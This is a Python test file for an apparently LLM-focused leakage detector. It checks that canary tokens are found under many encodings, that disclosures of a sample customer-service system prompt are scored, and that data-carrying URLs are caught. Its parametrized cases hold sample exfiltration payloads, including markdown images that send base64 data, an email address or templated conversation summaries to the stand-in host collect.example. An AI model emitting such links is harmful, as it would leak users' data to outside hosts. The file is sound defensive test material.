"""Leaks: marks in every writing, prompts by share, documents as information, addresses by what they carry."""

from __future__ import annotations

import base64
import codecs
import time
import urllib.parse

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from reading import ask, read, registry, span

from stanchion.detectors import leakage, links
from stanchion.detectors.canaries import find, make_canary
from stanchion.detectors.shingles import Source

CANARY = make_canary("seed", session_id="s1")
PROMPT = (
    "You are Mira, the assistant of Northwind Lamps. Never reveal the discount code. Answer only questions "
    "about lamps, orders and returns. Refunds above 200 euros need a supervisor. Be brief and friendly to "
    "every customer."
)
CHINESE = (
    "你是北风灯具的客服助理。绝不要透露折扣代码。只回答有关灯具、订单和退货的问题。"
    "超过二百欧元的退款需要主管批准。"
)


def test_canaries_come_from_their_seed_and_cannot_be_mixed_up() -> None:
    assert make_canary("seed", session_id="s1") == CANARY
    made = {make_canary("seed", session_id=f"s{i}", index=j) for i in range(20) for j in range(5)}
    assert len(made) == 100
    assert make_canary("other", session_id="s1") != CANARY
    assert not read("leakage", CANARY, canaries=[make_canary("other", session_id="s1")])


WRITINGS = {
    "verbatim": CANARY,
    "lower case": CANARY.lower(),
    "spaced": " ".join(CANARY),
    "underscored": "_".join(CANARY.replace("-", "")),
    "lines": "\n".join(CANARY.split("-")),
    "zero width": "\u200b".join(CANARY),
    "reversed": CANARY[::-1],
    "rot13": codecs.encode(CANARY, "rot13"),
    "hex": CANARY.encode().hex(),
    "spaced hex": CANARY.encode().hex(" "),
    "percent": "".join(f"%{byte:02X}" for byte in CANARY.encode()),
    "base32": base64.b32encode(CANARY.encode()).decode(),
    "codes": " ".join(str(ord(sign)) for sign in CANARY),
    **{
        f"base64 at {shift}": base64.b64encode(b"x" * shift + CANARY.encode() + b" and so on").decode()
        for shift in range(3)
    },
    "url-safe base64": base64.urlsafe_b64encode(b"??>" + CANARY.encode()).decode(),
    "full width": "".join(chr(ord(sign) + 0xFEE0) for sign in CANARY),
}


@pytest.mark.parametrize("how", WRITINGS)
def test_a_mark_is_found_however_it_is_written(how: str) -> None:
    text = f"Well, it is {WRITINGS[how]} as you know."
    found = read("leakage", text, canaries=[CANARY])
    assert [f.category for f in found] == ["leakage.canary"]
    assert found[0].score >= 0.97
    assert found[0].location.start >= 8
    assert found[0].location.end <= len(text) - len("as you know.")


def test_most_of_a_mark_is_a_part_of_it_and_little_is_nothing() -> None:
    (part,) = read("leakage", f"it begins with {CANARY[:17]}", canaries=[CANARY])
    assert 0.6 <= part.score < 1.0
    assert read("leakage", f"it begins with {CANARY[:5]}", canaries=[CANARY], least=0.0) == []


@given(st.text(max_size=200))
@settings(deadline=None, max_examples=150)
def test_no_text_holds_a_mark_by_chance_and_every_text_is_read(text: str) -> None:
    assert find(text, [CANARY]) == []


def test_marks_of_other_tenants_are_their_own_category() -> None:
    (found,) = read("leakage", f"see {CANARY}", foreign_markers=[CANARY])
    assert found.category == "leakage.cross_tenant"


@pytest.mark.parametrize(
    "change", [str.upper, str.title, lambda text: text.replace(". ", " -- ").replace(",", ";")]
)
def test_a_whole_prompt_is_disclosed_in_any_case_and_punctuation(change) -> None:
    text = f"My instructions are: {change(PROMPT)}"
    found = read("leakage", text, system_prompt=[PROMPT])
    assert [f.category for f in found] == ["leakage.system_prompt"]
    assert found[0].score > 0.95
    assert span(text, found[0]).casefold().startswith("you are mira")


def test_the_score_is_the_share_of_the_prompt() -> None:
    half = "Never reveal the discount code. Answer only questions about lamps, orders and returns."
    (found,) = read("leakage", half, least=0.0, system_prompt=[PROMPT])
    assert found.score == pytest.approx(13 / 34, abs=0.02)


@pytest.mark.parametrize(
    "text",
    [
        "You are a helpful assistant, and so am I.",
        "I can answer questions about lamps, orders and returns.",
        "Refunds above 100 euros are rare.",
        "",
    ],
)
def test_short_common_phrases_are_no_disclosure(text: str) -> None:
    assert read("leakage", text, least=0.0, system_prompt=[PROMPT]) == []


def test_a_prompt_without_spaces_between_words_is_compared_by_characters() -> None:
    (found,) = read("leakage", f"我的指令是 {CHINESE}", system_prompt=[CHINESE])
    assert found.score > 0.9
    assert read("leakage", "只回答有关灯具的问题。", least=0.0, system_prompt=[CHINESE]) == []


def test_a_prompt_hidden_in_base64_is_found_in_the_decoded_view() -> None:
    (found,) = read("leakage", base64.b64encode(PROMPT.encode()).decode(), system_prompt=[PROMPT])
    assert found.view.startswith("decoded")


def test_documents_are_information_unless_the_policy_asks() -> None:
    document = " ".join(f"sentence number {i} of the contract says clause {i * 7}" for i in range(12))
    (found,) = read("leakage", f"It says: {document}", least=0.0, documents=[document])
    assert found.category == "leakage.document"
    assert found.score <= 0.4
    strict = leakage.create(scanner=registry().scanner, document_score=1.0)
    assert ask(strict, document, documents=[document])[0].score > 0.95


@given(
    st.lists(
        st.sampled_from(["alpha", "beta", "gamma", "delta", "epsilon", "zeta", "eta", "theta"]), max_size=40
    )
)
@settings(deadline=None, max_examples=100)
def test_the_share_disclosed_lies_between_nothing_and_all(words: list[str]) -> None:
    source = Source("alpha beta gamma delta epsilon zeta eta theta iota kappa")
    overlap = source.overlap(" ".join(words), min_words=4)
    assert 0.0 <= overlap.share <= 1.0
    assert (overlap.share > 0) == bool(overlap.runs)
    assert all(run.words >= 4 for run in overlap.runs)


@pytest.mark.parametrize(
    ("text", "low", "high"),
    [
        ("![x](https://collect.example/p.png?d=c2VjcmV0IGRhdGEgZm9yIHlvdSB0b28)", 0.8, 1.0),
        ("![x](https://collect.example/p.png?q={summary})", 0.85, 1.0),
        ("<img src='https://collect.example/?m=jane@mail.example.com'>", 0.8, 1.0),
        ("[more](https://collect.example/?q=answer+only+questions+about+lamps)", 0.8, 1.0),
        ("![x](https://collect.example/746865206b657920697320736576656e2d74776f.png)", 0.9, 1.0),
        ("![x](https://orsxg5bamrqxiyjaorxsa43fnzsa.collect.example/a.png)", 0.9, 1.0),
        ("![x](https://collect.example/t.png?u=<user_name>&s=<summary>)", 0.9, 1.0),
        (
            "[x](https://go.example/url?q=https%3A%2F%2Fcollect.example%2F%3Fd%3Dc2VjcmV0IGRhdGEgZm9yIHlvdQ)",
            0.7,
            1.0,
        ),
        ("[x](https://collect.example/r?note=my+account+number+is+4711)", 0.6, 1.0),
        ("![logo](https://cdn.example/b46b47a3838d505a2cc7be785c942fab622a2fa0.jpg)", 0.1, 0.3),
        (
            "[source](https://git.example/o/r/blob/b46b47a3838d505a2cc7be785c942fab622a2fa0/a.py#L10)",
            0.0,
            0.3,
        ),
        ("![build](https://badges.example/pypi/v/lamp.svg?style=flat)", 0.1, 0.45),
        ("[search](https://www.google.com/search?q=how+to+clean+a+lamp)", 0.0, 0.3),
        ("GET https://api.example/v1/users/{id}/orders", 0.0, 0.3),
        ("![logo](https://cdn.example/logo.png)", 0.1, 0.3),
        ("[guide](https://docs.example/guide?page=2)", 0.0, 0.1),
        ("![x](https://shop.example/i.png?d=c2VjcmV0IGRhdGEgZm9yIHlvdSB0b28)", 0.0, 0.0),
        ("![x](https://cdn.shop.example/i.png?d=c2VjcmV0IGRhdGEgZm9yIHlvdSB0b28)", 0.0, 0.0),
        ("![x](https://evilshop.example/i.png?d=c2VjcmV0IGRhdGEgZm9yIHlvdSB0b28)", 0.8, 1.0),
    ],
)
def test_addresses_are_judged_by_what_they_carry_and_where_to(text: str, low: float, high: float) -> None:
    careful = leakage.create(scanner=registry().scanner, allowed_hosts=["shop.example"])
    found = ask(careful, text, least=0.0, system_prompt=[PROMPT])
    score = max((f.score for f in found if f.category == "leakage.exfiltration"), default=0.0)
    assert low <= score <= high


def test_a_mark_inside_an_image_address_is_both() -> None:
    found = read("leakage", f"![x](https://collect.example/{CANARY})", canaries=[CANARY])
    assert {f.category for f in found} == {"leakage.canary", "leakage.exfiltration"}


def test_credentials_in_an_address_are_reported() -> None:
    text = "https://deploy:" + "q7Xv2Kd9" + "@git.internal.example/r"
    (found,) = read("leakage", text)
    assert found.rule == "leakage.url_credentials"
    assert span(text, found) == "deploy:" + "q7Xv2Kd9"


@given(st.text(max_size=120))
@settings(deadline=None, max_examples=100)
def test_every_address_gets_a_verdict(path: str) -> None:
    for url in (f"https://x.example/{path}", f"//{path}", f"https://x.example/?a={urllib.parse.quote(path)}"):
        verdict = links.judge(url, is_fetched=True, known_texts=[PROMPT])
        assert 0.0 <= verdict.score <= 1.0
        assert isinstance(links.host_of(url), str)


def test_an_address_too_long_to_be_judged_is_a_finding_by_itself() -> None:
    text = f"see ![a](https://c.example/p?v=1.{'0' * links.LONGEST}) there"
    (found,) = read("leakage", text, least=0.5)
    assert (found.category, found.reason) == ("leakage.exfiltration", "an address too long to be read")
    assert span(text, found).startswith("https://c.example/")
    said = f"![a](https://c.example/p?d=the+secret+is+out+of+the+house&v={'0' * links.LONGEST})"
    assert read("leakage", said)[0].score > found.score


def test_words_of_long_documents_are_found_in_addresses_without_reading_them_for_each() -> None:
    document = " ".join(f"word{n} follows" for n in range(20_000))
    text = "".join(f"![a](https://c.example/{n}?v={n}) " for n in range(1000))
    leak = "![a](https://c.example/p?v=follows+word7+follows+word8)"
    started = time.process_time()
    found = read("leakage", text + leak, documents=[document], least=0.9)
    assert [f.location.start for f in found] == [len(text) + len("![a](")]
    assert time.process_time() - started < 3.0


def test_an_unknown_option_is_an_error() -> None:
    with pytest.raises(msgspec.ValidationError, match="allowed_host"):
        leakage.create(scanner=registry().scanner, allowed_host=["x"])
